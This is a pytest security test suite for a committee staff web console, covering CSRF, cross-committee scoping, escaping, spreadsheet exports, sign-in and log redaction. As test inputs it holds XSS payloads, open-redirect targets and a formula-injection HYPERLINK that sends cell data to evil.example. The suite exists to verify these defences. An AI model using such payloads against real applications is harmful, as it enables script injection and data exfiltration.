"""The staff console attacked from outside and by staff of another committee, over HTTP.

Sweeps over every route the console serves (new pages are swept as they are added):

- no session, or the session of someone who is no longer staff: every page sends to the sign-in;
- every state-changing route refuses a request without the session's CSRF token (a form without it,
  a wrong one, another session's, one in a JSON body or the query string, a token of other bytes),
  and nothing changes in the database;
- every id in a URL of another committee's notice, poll, topic, comment, resident, … answers 404 and
  none of its data, for a committee's staff and for a street's (POSTs too, with their token);
- ids in form fields and query strings (a committee, a region, a segment) the same;
- text typed by residents and staff (names, tags, topic texts, expressions, file names) is shown as
  text on every page, and every XLSX download holds it as text, never as a formula;

and the sign-in itself: a link raced by two requests signs in once, a session id is new on every
sign-in and the old one ends, a sign-in posted from another site is refused.
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import re
import zipfile
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import pytest
from aiohttp import FormData, web
from sqlalchemy import select, update

from bot.console import auth
from bot.console.pages import PAGES
from bot.db import session_factory
from bot.sandbox.webapp import sign_init_data
from notifications.render import plain
from services import checkins as cs
from services import discussions as ds
from services import notices as ns
from services import policies as pol
from services import polls
from services import registry_imports as ri
from services import segments as seg
from services import tags as ts
from services import verification as vs
from services.models import Account, Alert, Base, ConsoleSession, Resident, Staff
from services.scope import Actor
from tests.helpers import (
    CONSOLE_BOT_TOKEN,
    NOW,
    console_app,
    console_link,
    console_login,
    csrf_of,
    link_token,
    make_account,
    make_world,
)

# A resident's name as a hostile registry or a hostile resident would type it: markup for the pages,
# a formula for the spreadsheets.
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"<img src=x onerror=alert(1)>")'
EVIL_ATTR = '"><svg onload=alert(2)>'
RAW = ("<img src=x", "<svg onload")  # what must never reach a page unescaped
SAMPLE_POLICIES = Path(__file__).resolve().parent.parent / "policies" / "sample"
FLSQ_POLICY = """\
policies:
  - code: flsq_only_grant
    region: "FLSQ"
    title: {zh: 枫林专项补贴, en: Fenglin grant}
    summary: {zh: 只在枫林。, en: Only in Fenglin.}
    rule: 'age >= 60'
    benefit:
      text: {zh: 补贴, en: a grant}
    apply:
      where: {zh: 枫林居委会, en: the Fenglin committee}
    valid_from: 2024-01-01
"""
# Words of FLSQ's things: none may appear on a page refused to DXYC or the street.
FOREIGN_WORDS = ("冯志强", "枫林独居", "枫林的事", "枫林评论", "枫林通知", "枫林投票", "别处的人", "flsq-registry",
                 "Fenglin grant", "枫林专项补贴")


@dataclass
class Ids:
    """One committee's things, by the name the route sweep fills path parameters with."""

    committee: int
    resident: int
    segment: int
    notice: int
    poll: int
    topic: int
    comment: int
    request: int
    alert: int
    registry_import: int
    policy: str


async def _things(s, staff: Actor, committee, resident: Resident, account: Account, *, words: dict[str, str],
                  policy: str) -> dict:
    """A segment, a sent notice, a poll, a topic with a resident's comment, a verification request and a
    queued registry import of ``committee``, texts from ``words``."""
    dcfg = ds.DiscussionConfig()
    segment = await seg.save_segment(s, staff, words["segment"], "age >= 60", NOW)
    notice = await ns.create_notice(s, staff, text=str(plain(words["notice"])), now=NOW,
                                    aud=await ns.audience(s, staff, "committee", None))
    poll = await polls.create_poll(s, staff, committee, polls.PollDraft(
        question=words["poll"], options=[words["poll"][:60], "否"], closes_at=NOW + timedelta(days=3)),
        now=NOW, cfg=polls.PollConfig())
    topic = await ds.create_topic(s, staff, ds.TopicDraft(title=words["topic"], body=words["topic"]), now=NOW, cfg=dcfg)
    comment = await ds.add_comment(s, Actor(account=account, resident=resident, locale="en"), topic.topic.id,
                                   words["comment"], now=NOW, cfg=dcfg)
    asker = await make_account(s, account.telegram_id + 1000, first_name=words["name"])
    vs.give_consent(asker, NOW)
    request = await vs.request_review(s, asker, committee_id=committee.id, name=words["name"],
                                      address=words["name"], now=NOW)
    imported = await ri.start_import(s, staff, committee.id, words["file"], flag_missing=False, now=NOW, locale="en")
    await cs.enrol_resident(s, resident, now=NOW - timedelta(days=1), cfg=cs.CheckinConfig())
    return {"committee": committee.id, "resident": resident.id, "segment": segment.id, "notice": notice.id,
            "poll": poll.id, "topic": topic.topic.id, "comment": comment.comment.id, "request": request.id,
            "registry_import": imported.id, "policy": policy}


@pytest.fixture
async def world(sqlite_engine, tmp_path):
    """make_world, plus in DXYC a resident, tag, segment, notice, poll, topic, comment, request and
    import all named by an attacker (EVIL); the same things of FLSQ, named with FOREIGN_WORDS."""
    catalogue = tmp_path / "catalogue"
    catalogue.mkdir()
    for f in SAMPLE_POLICIES.glob("*.yaml"):
        (catalogue / f.name).write_text(f.read_text(encoding="utf-8"), encoding="utf-8")
    (catalogue / "zz_flsq.yaml").write_text(FLSQ_POLICY, encoding="utf-8")
    async with session_factory(sqlite_engine)() as s:
        world = await make_world(s)
        dxyc, flsq = world.regions["DXYC"], world.regions["FLSQ"]
        evil = Resident(committee_id=dxyc.id, name=EVIL, building=EVIL_ATTR, unit="1", room="101",
                        living_alone=True, created_at=NOW, updated_at=NOW)
        s.add(evil)
        await s.flush()
        evil_account = await make_account(s, 700, evil, first_name=EVIL)
        feng_account = await make_account(s, 701, world.residents["feng"], first_name="冯志强")
        await ts.define_tag(s, world.dxyc_staff, code="evil_tag", name_zh=EVIL, name_en=EVIL, kind="manual",
                            rule=None, category="general", region_id=dxyc.id, now=NOW)
        await ts.tag_resident(s, world.dxyc_staff, evil.id, "evil_tag", NOW)
        await pol.load_catalogue(s, catalogue, NOW)
        evil_words = {k: EVIL for k in ("segment", "notice", "poll", "topic", "comment", "name")}
        own = await _things(s, world.dxyc_staff, dxyc, evil, evil_account,
                            words={**evil_words, "file": EVIL_ATTR + ".csv"}, policy="meal_assistance")
        foreign = await _things(s, world.flsq_staff, flsq, world.residents["feng"], feng_account,
                                policy="flsq_only_grant",
                                words={"segment": "枫林独居", "notice": "枫林通知", "poll": "枫林投票",
                                       "topic": "枫林的事", "comment": "枫林评论", "name": "别处的人",
                                       "file": "flsq-registry.csv"})
        await s.commit()
    world.own, world.foreign = own, foreign
    return world


@pytest.fixture
async def app(sqlite_engine, tmp_path, world):
    async with console_app(sqlite_engine, tmp_path) as a:
        # 09:00 asked, 09:31 reminded, 10:35 alerted: both elders (EVIL in DXYC, 冯志强 in FLSQ) silent.
        for minutes in (0, 31, 95):
            a.clock.set(NOW + timedelta(minutes=minutes))
            await cs.tick(a.sessions, a.rt.dp["checkin_config"], a.clock())
        async with a.sessions() as s:
            alerts = {r: i for i, r in (await s.execute(select(Alert.id, Alert.resident_id))).all()}
        world.own["alert"] = alerts[world.own["resident"]]
        world.foreign["alert"] = alerts[world.foreign["resident"]]
        yield a


# --- the routes ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Route:
    method: str
    path: str  # canonical, below /console: /notices/{id}
    public: bool

    @property
    def params(self) -> list[str]:
        return re.findall(r"\{(\w+)\}", self.path)


def console_routes() -> list[Route]:
    """Every route of the console, as its sub-application is built (pages added later included)."""
    found = []
    for module in (auth, *PAGES):
        for route in module.routes:
            if not isinstance(route, web.RouteDef):
                continue
            canonical = web.DynamicResource(route.path).canonical if "{" in route.path else route.path
            found.append(Route(route.method, canonical, getattr(route.handler, "console_public", False)))
    return found


# (first part of the path, parameter) → the thing of Ids it names. A new page with ids of its own adds
# them here and in _things: until then the sweeps fail for it, naming the route.
PARAMS = {("residents", "id"): "resident", ("segments", "id"): "segment", ("notices", "id"): "notice",
          ("polls", "id"): "poll", ("topics", "id"): "topic", ("topics", "topic"): "topic",
          ("verification", "id"): "request", ("checkins", "committee"): "committee", ("checkins", "id"): "alert",
          ("registry", "id"): "registry_import", ("policies", "code"): "policy"}
LITERALS = {"decision": "approve"}
# Fields a POST carries so that a refusal is for the id, not for a missing field.
FORM = {"action": "add", "code": "volunteer", "outcome": "safe", "for": "1d", "reason": "x", "when": "now",
        "locale": "en", "next": "/console/", "text": "x", "name": "x", "expression": "age > 1"}


def fill(route: Route, things: dict, *, own: dict | None = None) -> str:
    """The route's URL with ``things``' ids (a comment's topic from ``own``: the stronger attack names
    one's own topic with another committee's comment)."""
    first = route.path.strip("/").split("/")[0]
    values = {}
    for name in route.params:
        if name in LITERALS:
            values[name] = LITERALS[name]
            continue
        comment = (first, name) == ("topics", "id") and "/comments/" in route.path
        kind = "comment" if comment else PARAMS.get((first, name))
        if kind is None:
            pytest.fail(f"{route.method} /console{route.path}: add what {{{name}}} names to PARAMS and _things "
                        "in tests/test_console_security.py, so that its scope is swept")
        source = own if (kind == "topic" and own is not None and "/comments/" in route.path) else things
        values[name] = str(source[kind])
    return "/console" + route.path.format(**values)


async def fingerprint(app) -> str:
    """Every row of every table: equal before and after means the request changed nothing."""
    digest = hashlib.sha256()
    async with app.sessions() as s:
        for table in Base.metadata.sorted_tables:
            rows = (await s.execute(select(table).order_by(*table.primary_key.columns))).all()
            digest.update(repr((table.name, rows)).encode())
    return digest.hexdigest()


async def signed_in(app, account_id: int) -> str:
    """Sign ``account_id`` in; the session's CSRF token."""
    await console_login(app, account_id)
    return csrf_of(await (await app.client.get("/console/")).text())


def _foreign_free(text: str) -> list[str]:
    return [w for w in FOREIGN_WORDS if w in text]


# --- no session, an ex-staff session ------------------------------------------------------------------


async def test_every_page_sends_anyone_without_a_session_to_sign_in(app, world):
    for route in console_routes():
        if route.public:
            continue
        url = fill(route, world.own)
        response = await app.client.request(route.method, url, data=FORM, allow_redirects=False)
        assert response.status == 303, (route, response.status)
        assert response.headers["Location"] == "/console/login", route
        assert "王秀英" not in await response.text()


async def test_a_session_of_someone_no_longer_staff_opens_nothing(app, world):
    token = await signed_in(app, world.dxyc_staff.account.id)
    async with app.sessions() as s:
        await s.execute(update(Staff).where(Staff.account_id == world.dxyc_staff.account.id).values(active=False))
        await s.commit()
    first = await app.client.get("/console/", allow_redirects=False)
    assert first.status == 303 and first.headers["Location"] == "/console/login"
    async with app.sessions() as s:
        assert (await s.scalar(select(ConsoleSession.ended_at))) is not None  # ended at the first refusal
    before = await fingerprint(app)
    for route in console_routes():
        if route.public or route.method != "GET":
            continue
        response = await app.client.get(fill(route, world.own), allow_redirects=False)
        assert response.status == 303 and response.headers["Location"] == "/console/login", route
    response = await app.client.post(fill(Route("POST", "/notices/{id}/remind", False), world.own),
                                     data={"csrf": token}, allow_redirects=False)
    assert response.status == 303 and response.headers["Location"] == "/console/login"
    assert await fingerprint(app) == before


# --- CSRF ---------------------------------------------------------------------------------------------


async def test_every_change_needs_the_sessions_csrf_token(app, world):
    other = await signed_in(app, world.street_staff.account.id)  # another session's token
    token = await signed_in(app, world.dxyc_staff.account.id)
    assert other != token
    before = await fingerprint(app)
    changes = [r for r in console_routes() if not r.public and r.method not in ("GET", "HEAD")]
    assert len(changes) >= 20  # the sweep sees the pages
    for route in changes:
        url = fill(route, world.own)
        attempts = {
            "no token": {"data": FORM},
            "wrong token": {"data": {**FORM, "csrf": token[:-1] + ("0" if token[-1] != "0" else "1")}},
            "another session's": {"data": {**FORM, "csrf": other}},
            "header of another session": {"data": FORM, "headers": {"X-CSRF-Token": other}},
            "in the query string": {"data": FORM, "params": {"csrf": token}},
            "in a JSON body": {"json": {**FORM, "csrf": token}},
            "not ASCII": {"data": FORM, "headers": {"X-CSRF-Token": "é" + token[1:]}},
            "multipart without": {"data": _multipart(FORM)},
        }
        for name, options in attempts.items():
            response = await app.client.request(route.method, url, allow_redirects=False, **options)
            assert response.status == 403, (route, name, response.status)
    assert await fingerprint(app) == before
    # The session still works with its own token: the refusals above were for the token alone.
    ok = await app.client.post("/console/lang", data={"csrf": token, "locale": "en", "next": "/console/"},
                               allow_redirects=False)
    assert ok.status == 303


def _multipart(fields: dict) -> FormData:
    form = FormData()
    for key, value in fields.items():
        form.add_field(key, value)
    form.add_field("file", b"x", filename="x.csv")
    return form


# --- scope: ids of another committee -------------------------------------------------------------------


@pytest.mark.parametrize("who", ["dxyc_staff", "street_staff"])
async def test_every_id_of_another_committee_is_404_without_its_data(app, world, who):
    token = await signed_in(app, getattr(world, who).account.id)
    before = await fingerprint(app)
    swept = 0
    for route in console_routes():
        if route.public or not route.params:
            continue
        url = fill(route, world.foreign, own=world.own)
        if route.method == "GET":
            response = await app.client.get(url, allow_redirects=False)
        else:
            response = await app.client.request(route.method, url, data={**FORM, "csrf": token},
                                                allow_redirects=False)
        text = await response.text()
        assert response.status == 404, (who, route, url, response.status, text[:300])
        assert not _foreign_free(text), (route, _foreign_free(text))
        swept += 1
    assert swept >= 30
    assert await fingerprint(app) == before
    # The same routes with the staff member's own ids answer (the sweep is not all 404s).
    for route in console_routes():
        if route.method == "GET" and route.params and not route.path.endswith("/events"):
            response = await app.client.get(fill(route, world.own), allow_redirects=False)
            assert response.status < 500 and response.status != 404, (route, response.status)


async def test_ids_of_another_committee_in_fields_and_queries_are_404(app, world):
    token = await signed_in(app, world.dxyc_staff.account.id)
    flsq = world.regions["FLSQ"]
    segment = world.foreign["segment"]
    before = await fingerprint(app)
    for method, path, fields in (
        ("GET", "/console/residents", {"committee": flsq.id}),
        ("GET", "/console/residents/export.xlsx", {"committee": flsq.id}),
        ("GET", "/console/residents", {"segment": segment}),
        ("GET", "/console/residents/export.xlsx", {"segment": segment}),
        ("GET", "/console/checkins", {"committee": flsq.id}),
        ("GET", "/console/notices/new", {"audience": "segment", "segment": segment}),
        ("GET", "/console/notices/count", {"audience": "segment", "segment": segment}),
        ("POST", "/console/notices", {"audience": "segment", "segment": segment, "text": "hi"}),
        ("GET", "/console/polls/new", {"committee": "FLSQ"}),
        ("GET", "/console/polls/eligible", {"committee": "FLSQ", "eligible": "age > 1"}),
        ("POST", "/console/polls", {"committee": "FLSQ", "question": "q?", "options": "a\nb"}),
        ("POST", "/console/topics", {"committee": "FLSQ", "title": "一个标题", "body": "一段正文内容"}),
        ("POST", "/console/tags", {"code": "new_tag", "name_zh": "新", "name_en": "new", "region": flsq.id}),
        ("POST", "/console/segments", {"name": "s", "expression": "age > 1", "region": flsq.id}),
        ("GET", f"/console/policies/{world.own['policy']}", {"resident": world.foreign["resident"]}),
    ):
        if method == "GET":
            response = await app.client.get(path, params=fields, allow_redirects=True)
        else:
            response = await app.client.post(path, data={**fields, "csrf": token}, allow_redirects=False)
        text = await response.text()
        assert response.status == 404, (method, path, fields, response.status, text[:300])
        assert not _foreign_free(text), (path, _foreign_free(text))
    upload = FormData()
    upload.add_field("committee", str(flsq.id))
    upload.add_field("file", "姓名\n张三\n".encode(), filename="a.csv")
    response = await app.client.post("/console/registry/import", data=upload, headers={"X-CSRF-Token": token},
                                     allow_redirects=False)
    assert response.status == 404
    assert await fingerprint(app) == before


# --- what residents and staff typed, shown as text -------------------------------------------------------


async def test_hostile_text_is_text_on_every_page(app, world):
    await signed_in(app, world.street_staff.account.id)
    extra = {"/console/residents": {"q": EVIL[:50]}, "/console/segments": {"expression": EVIL},
             "/console/notices/new": {"text": EVIL, "audience": "segment", "segment": world.own["segment"]},
             f"/console/policies/{world.own['policy']}": {"q": "<img src=x>", "rule": EVIL,
                                                           "resident": world.own["resident"]},
             f"/console/segments/{world.own['segment']}": {"expression": EVIL}}
    shown = 0
    for route in console_routes():
        if route.method != "GET" or route.path.endswith(("/events", ".xlsx", ".png", ".json", "/count",
                                                            "/eligible")):
            continue
        url = fill(route, world.own)
        response = await app.client.get(url, params=extra.get(url, {}))
        text = await response.text()
        assert response.status < 500, (url, response.status)
        assert not [raw for raw in RAW if raw in text], (url, [text[max(0, text.find(r) - 200):text.find(r) + 50]
                                                               for r in RAW if r in text])
        shown += "&lt;img src=x" in text
    assert shown >= 8  # the hostile names are on the pages, escaped


async def test_every_xlsx_download_holds_typed_text_as_text_never_a_formula(app, world):
    from openpyxl import load_workbook

    await signed_in(app, world.street_staff.account.id)
    downloads = [r for r in console_routes() if r.method == "GET" and r.path.endswith(".xlsx")]
    assert len(downloads) >= 15
    seen = 0
    for route in downloads:
        response = await app.client.get(fill(route, world.own))
        assert response.status == 200, route
        data = await response.read()
        assert "<f>" not in _sheet_xml(data), route  # no cell of any sheet is a formula
        values = [c for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows(values_only=True)
                  for c in row]
        seen += EVIL in values
    assert seen >= 5  # the hostile name is in the downloads, as the characters typed


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


# --- signing in -----------------------------------------------------------------------------------------


async def test_two_requests_racing_for_one_link_sign_in_once(engine, tmp_path):
    async with session_factory(engine)() as s:
        staff = (await make_world(s)).dxyc_staff.account.id
    async with console_app(engine, tmp_path) as app:
        token = link_token(await console_link(app, staff))
        answers = await asyncio.gather(*(app.client.post("/console/login", data={"token": token},
                                                         allow_redirects=False) for _ in range(3)))
        assert sorted(a.status for a in answers) == [303, 403, 403]
        async with app.sessions() as s:
            assert len(list(await s.scalars(select(ConsoleSession.id)))) == 1


async def test_signing_in_gives_a_new_session_and_ends_the_one_the_browser_had(app, world):
    first = (await console_login(app, world.dxyc_staff.account.id)).cookies["cc_session"].value
    # Someone who could plant a cookie in this browser (a session of their own) gains nothing either.
    second = (await console_login(app, world.street_staff.account.id)).cookies["cc_session"].value
    assert first != second
    async with app.sessions() as s:
        sessions = list(await s.scalars(select(ConsoleSession).order_by(ConsoleSession.id)))
    assert [row.ended_at is not None for row in sessions] == [True, False]
    app.client.session.cookie_jar.clear()
    app.client.session.cookie_jar.update_cookies({"cc_session": first})  # the old id opens nothing
    assert (await app.client.get("/console/", allow_redirects=False)).status == 303


@pytest.mark.parametrize("headers", [{"Origin": "https://evil.example"}, {"Origin": "null"},
                                     {"Sec-Fetch-Site": "cross-site"}])
async def test_a_sign_in_posted_from_another_site_is_refused(app, world, headers):
    token = link_token(await console_link(app, world.dxyc_staff.account.id))
    refused = await app.client.post("/console/login", data={"token": token}, headers=headers, allow_redirects=False)
    assert refused.status == 403 and "Set-Cookie" not in refused.headers
    init = sign_init_data(CONSOLE_BOT_TOKEN, {"id": world.dxyc_staff.account.telegram_id, "first_name": "s"},
                          auth_date=int(app.clock().timestamp()))
    app_refused = await app.client.post("/console/app", data={"init_data": init}, headers=headers,
                                        allow_redirects=False)
    assert app_refused.status == 403
    # The link is still good for its owner's own browser: the page on this site posts it.
    origin = str(app.client.make_url("/")).rstrip("/")
    ok = await app.client.post("/console/login", data={"token": token}, allow_redirects=False,
                               headers={"Origin": origin, "Sec-Fetch-Site": "same-origin"})
    assert ok.status == 303


async def test_the_language_switch_goes_back_to_console_pages_only(app, world):
    token = await signed_in(app, world.dxyc_staff.account.id)
    for target in ("https://evil.example/", "//evil.example/", "/console//evil.example", "/\\evil.example",
                   "/console/\\\\evil.example/..", "javascript:alert(1)", "/sandbox/", "/console/\r\nX: y"):
        response = await app.client.post("/console/lang", data={"csrf": token, "locale": "en", "next": target},
                                         allow_redirects=False)
        assert response.status == 303, target
        # Where a browser goes: it reads a backslash as a slash.
        went = urlsplit(urljoin("http://console.test/console/", response.headers["Location"].replace("\\", "/")))
        assert went.netloc == "console.test" and went.path.startswith("/console/"), (target, went)


async def test_the_bots_own_spreadsheets_hold_typed_text_as_text(app, world):
    """The registry export (/export, CLI), the weekly check-in sheet (a helper's name) and the policy
    take-up sheet: the same rule as the console's downloads."""
    from datetime import date

    from openpyxl import load_workbook

    from notifications.policy_report import report_sheet
    from notifications.reports import table_sheet, weekly_sheet
    from services.checkins import DayStats, HelperStats, WeeklyReport
    from services.registry import export_registry_xlsx

    async with app.sessions() as s:
        registry = await export_registry_xlsx(s, world.regions["DXYC"])
    week = WeeklyReport(1, EVIL, "DXYC", date(2026, 11, 23), date(2026, 11, 29),
                        [DayStats(date(2026, 11, 23), 1, 1, 0, 0)], [HelperStats(EVIL, 1, 1, 0, 0)])
    take_up = report_sheet([pol.ReportRow("code", {"zh": EVIL, "en": EVIL}, 1, 0, 0, 0, 0, 0, None)], "en", EVIL)
    for data in (registry, weekly_sheet(week), take_up, table_sheet(EVIL, [EVIL], [[EVIL, 1, None]])):
        assert "<f>" not in _sheet_xml(data)
        values = [c for ws in load_workbook(io.BytesIO(data)).worksheets for r in ws.iter_rows(values_only=True)
                  for c in r]
        assert EVIL in values


# --- the rest of the web app: the webhook; uploads; what reaches a log -------------------------------------


@pytest.fixture
async def bare(sqlite_engine, tmp_path):
    """The console of make_world, no more (for tests that need none of the hostile things)."""
    async with session_factory(sqlite_engine)() as s:
        world = await make_world(s)
    async with console_app(sqlite_engine, tmp_path) as a:
        a.world = world
        yield a


async def test_the_webhook_refuses_odd_secrets_and_bodies_without_an_error(bare):
    from aiohttp.test_utils import TestClient, TestServer

    from bot.web import SECRET_HEADER, WEBHOOK_PATH, add_webhook_route, build_web_app

    web_app = build_web_app(bare.rt)
    add_webhook_route(web_app, bare.rt)
    secret = bare.rt.settings.ensure_webhook_secret()
    async with TestClient(TestServer(web_app)) as http:
        for header in ("é" + secret[1:], "\u200b", secret + "\u00a0", "x" * 300):  # not ASCII, or not the secret
            refused = await http.post(WEBHOOK_PATH, json={"update_id": 1}, headers={SECRET_HEADER: header})
            assert refused.status == 403, header
        body = io.BytesIO(b'{"update_id": 1, "x": "' + b"a" * (2 * 1024 * 1024) + b'"}')
        huge = await http.post(WEBHOOK_PATH, data=body,
                               headers={SECRET_HEADER: secret, "Content-Type": "application/json"})
        assert huge.status == 413  # no update is that large: the body is not read past the app's limit
        for body in (b"\xff\xfe", b"[1, 2]", b"null", b'"text"'):
            bad = await http.post(WEBHOOK_PATH, data=body, headers={SECRET_HEADER: secret})
            assert bad.status == 400, body


async def test_an_upload_with_oversized_or_odd_parts_is_refused_and_nothing_is_kept(bare):
    token = await signed_in(bare, bare.world.dxyc_staff.account.id)
    dxyc = bare.world.regions["DXYC"].id
    before = await fingerprint(bare)
    # A field of 2 MB beside a small file: not read into memory (the fields are a few characters).
    form = FormData()
    form.add_field("committee", str(dxyc))
    form.add_field("junk", io.BytesIO(b"x" * (2 * 1024 * 1024)), content_type="text/plain")
    form.add_field("file", "姓名\n张三\n".encode(), filename="a.csv")
    big = await bare.client.post("/console/registry/import", data=form, headers={"X-CSRF-Token": token},
                                 allow_redirects=False)
    assert big.status == 413
    # Two files, the second one large: only one file is taken, the other is not read whole either.
    form = FormData()
    form.add_field("committee", str(dxyc))
    form.add_field("file", "姓名\n张三\n".encode(), filename="a.csv")
    form.add_field("file", io.BytesIO(b"x" * (2 * 1024 * 1024)), filename="b.csv")
    two = await bare.client.post("/console/registry/import", data=form, headers={"X-CSRF-Token": token},
                                 allow_redirects=False)
    assert two.status == 413
    # Not a multipart body at all.
    plain = await bare.client.post("/console/registry/import", data=b"hello", allow_redirects=False,
                                   headers={"X-CSRF-Token": token, "Content-Type": "text/plain"})
    assert plain.status == 400
    assert await fingerprint(bare) == before
    imports = bare.rt.settings.ensure_data_dir() / "imports"
    assert not imports.exists() or list(imports.iterdir()) == []


async def test_a_database_error_in_a_log_carries_no_values(engine):
    """What SQLAlchemy puts in an error message (and so in a logged traceback): the statement, never the
    values bound to it (names, comment texts, token hashes)."""
    from sqlalchemy.exc import IntegrityError

    async with session_factory(engine)() as s:
        s.add(Account(telegram_id=5, chat_id=5, first_name="王秀英的私事", created_at=NOW))
        await s.commit()
        s.add(Account(telegram_id=5, chat_id=6, first_name="王秀英的私事", created_at=NOW))
        with pytest.raises(IntegrityError) as raised:
            await s.commit()
    assert "王秀英" not in str(raised.value) and "INSERT INTO accounts" in str(raised.value)


def test_a_broken_policy_outcomes_file_is_a_polite_refusal():
    """/policy_import answers "could not be read" (a ValueError) for any file that is not one."""
    for name, content in (("a.xlsx", b"not a zip at all"), ("a.xlsx", b"PK\x03\x04broken"),
                          ("a.csv", b"\xff\xfe\x00"), ("a.xlsx", _zip({"hello.txt": b"not a workbook"}))):
        with pytest.raises(ValueError):
            pol.read_rows(name, content)


def _zip(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in files.items():
            z.writestr(name, data)
    return buf.getvalue()


async def test_a_rejected_rows_reason_never_repeats_a_phone_or_id_number(bare):
    """A column shifted by one puts an ID number under 出生日期 or a phone under 独居: the row is
    rejected, and its reason (kept in the import's report, shown and exported) does not quote the
    number, which the registry otherwise holds only as a keyed hash (IDs) or encrypted (phones)."""
    from services.registry import import_registry, read_text_rows

    id_number, phone = "110101199003071234", "13800138000"
    rows = ("姓名,手机,出生日期,独居,月收入,专有面积\n"
            f"甲,13800138001,{id_number},,,\n"
            f"乙,13800138002,,{phone},,\n"
            f"丙,13800138003,,,138 0013 8000元,\n"
            f"丁,13800138004,,,,{phone}平方米x\n"
            "戊,13800138005,1950年3月,,,\n")
    async with bare.sessions() as s:
        report = await import_registry(s, bare.world.regions["DXYC"], read_text_rows(rows), secret_key="k", now=NOW)
    reasons = " | ".join(r.reason for r in report.rejected)
    assert len(report.rejected) == 5, reasons
    assert id_number not in reasons and phone not in reasons and "0013" not in reasons, reasons
    assert "1950年3月" in reasons  # a value that is no number of anyone's is still quoted, to find the mistake


async def test_health_metrics_and_error_pages_show_no_personal_data(app, world):
    from aiohttp.test_utils import TestClient, TestServer

    from bot.web import build_web_app

    async with TestClient(TestServer(build_web_app(app.rt))) as http:
        health = await http.get("/healthz")
        metrics = await http.get("/metrics")
        for response in (health, metrics):
            text = await response.text()
            assert response.status in (200, 503)
            for private in (EVIL, "王秀英", "冯志强", "13800138", "+86", "枫林", "hash"):
                assert private not in text, (response.url, private)
        # A path or query typed into the address bar comes back as text on the error page.
        await console_login(app, world.dxyc_staff.account.id)
        for path in ("/console/%3Csvg%20onload=alert(1)%3E", "/console/residents/1%3Cimg%20src=x%3E",
                     "/console/residents?page=%3Csvg%20onload=alert(1)%3E&status=%22%3E%3Csvg%20onload=1%3E"):
            page = await app.client.get(path)
            assert page.status in (200, 400, 404) and not [raw for raw in RAW if raw in await page.text()], path


@pytest.mark.parametrize("who", ["dxyc_staff", "street_staff"])
async def test_no_list_page_or_download_shows_another_committees_things(app, world, who):
    from openpyxl import load_workbook

    await signed_in(app, getattr(world, who).account.id)
    seen = 0
    for route in console_routes():
        if route.method != "GET" or route.params or route.public or route.path.endswith(("/events", ".png")):
            continue
        response = await app.client.get("/console" + route.path)
        assert response.status < 500, route
        if route.path.endswith(".xlsx") and response.status == 200:
            data = await response.read()
            text = " ".join(str(c) for ws in load_workbook(io.BytesIO(data)).worksheets
                            for row in ws.iter_rows(values_only=True) for c in row if c is not None)
        else:
            text = await response.text()
        assert not _foreign_free(text), (who, route, _foreign_free(text))
        seen += EVIL in text or "&lt;img src=x" in text or "王秀英" in text
    assert seen >= 10  # the lists do show the member's own things


def test_a_mobile_number_grouped_with_dots_or_tabs_is_masked_in_logs():
    from bot.logs import redact

    for written in ("138.0013.8000", "138\t0013\t8000", "138_0013_8000", "+86.138.0013.8000", "'138\\t0013\\t8000'"):
        assert "0013" not in redact(f"call {written} now"), written


# --- the bot in a group chat ---------------------------------------------------------------------------


async def test_console_and_other_commands_in_a_group_chat_are_not_answered(stack, caplog):
    """Someone adds the bot to a group and asks a staff member to send /console there: the sign-in
    link (or a resident's card, a list) would be read by every member. The bot talks one to one only."""
    from sqlalchemy import func

    from services.models import ConsoleLink
    from tests.helpers import make_staff, texts
    from tests.seed import seed_registry

    await seed_registry(stack.sessions)
    staff = await make_staff(stack)
    group = {"id": -1001234567890, "type": "supergroup", "title": "3号楼邻里群"}
    sender = {"id": staff.id, "is_bot": False, "first_name": "张书记"}
    for i, text in enumerate(("/console", "/whois 3-201", "/pending")):
        stack.sandbox.enqueue_raw({"message": {"message_id": 10 + i, "date": stack.sandbox.now(), "chat": group,
                                               "from": sender, "text": text,
                                               "entities": [{"type": "bot_command", "offset": 0,
                                                             "length": len(text.split()[0])}]}})
    await stack.settled()
    async with stack.sessions() as s:
        assert await s.scalar(select(func.count()).select_from(ConsoleLink)) == 0
    # Nothing was even tried in the group (the sandbox, unlike Telegram, knows no group to deliver to).
    assert not [r for r in caplog.records if r.name == "bot.errors"], caplog.text
    await staff.send("/console")  # in the private chat it works as ever
    assert "/console/login#t=" in await texts(staff)


async def test_a_policy_outcome_refusal_never_repeats_an_id_number(bare):
    """/policy_import's refusals go back into the staff chat: an ID number put under "id" (read as
    身份证号) is not repeated there either."""
    rows = [["policy", "id", "status"], ["meal_assistance", "11010119900307123X", "enrolled"],
            ["meal_assistance", "1", "13800138000"]]
    async with bare.sessions() as s:
        result = await pol.import_enrolments(s, bare.world.dxyc_staff, rows, now=NOW)
    errors = " | ".join(result.errors)
    assert len(result.errors) == 2, errors
    assert "11010119900307123X" not in errors and "13800138000" not in errors, errors
